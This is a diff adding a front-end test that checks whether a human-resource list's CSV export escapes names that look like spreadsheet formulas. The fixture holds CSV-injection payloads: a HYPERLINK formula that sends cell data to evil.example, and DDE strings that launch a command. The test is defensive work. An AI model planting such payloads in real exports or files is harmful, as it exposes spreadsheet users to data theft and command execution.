@@ -55,3 +55,29 @@ describe("CSV export", () => {
     expect(csv).not.toContain("Completed");
   });
 });
+
+describe("CSV export of people imported under formulas' names", () => {
+  it("writes each such name as text a spreadsheet does not run", async () => {
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
+    api.db.seed(
+      "human-resource",
+      names.map((name, i) => ({ id: i + 1, name, email: `p${i + 1}@demo.test`, phone: "+62 812 0000", is_active: true })),
+    );
+    const { user } = await renderCrud("/human-resource");
+    await waitForRows(3);
+    await user.click(screen.getByRole("button", { name: /Export CSV/ }));
+    await waitFor(() => expect(blobs).toHaveLength(1));
+    const text = await new Promise<string>((res) => {
+      const reader = new FileReader();
+      reader.onload = () => res(String(reader.result));
+      reader.readAsText(blobs[0]);
+    });
+    const { default: Papa } = await import("papaparse");
+    const [header, ...rows] = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
+    const name = header.indexOf("Name");
+    expect(rows.map((r) => r[name]).sort()).toEqual(names.map((n) => `'${n}`).sort());
+    expect(rows.map((r) => r[header.indexOf("Phone number")])).toEqual(["'+62 812 0000", "'+62 812 0000", "'+62 812 0000"]);
+    // Nothing else starts as a formula would (the lone "-" of a missing value runs nothing).
+    for (const r of rows) for (const cell of r) if (cell !== "-") expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
